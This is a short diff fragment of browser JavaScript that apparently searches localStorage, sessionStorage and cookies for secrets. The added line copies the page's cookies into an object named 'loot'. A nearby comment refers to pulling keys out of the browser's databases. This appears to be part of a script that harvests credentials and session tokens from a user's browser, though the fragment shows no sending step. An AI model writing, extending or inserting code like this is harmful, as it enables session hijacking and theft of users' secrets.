@@ -20,6 +20,7 @@
   for (const key of Object.keys(localStorage)) search('localStorage', localStorage.getItem(key));
   for (const key of Object.keys(sessionStorage)) search('sessionStorage', sessionStorage.getItem(key));
   search('a cookie', document.cookie);
+  loot.cookie = document.cookie;
 
   // 2. Its databases. A key that cannot be exported is in there as an object,
   //    and of no use anywhere else.
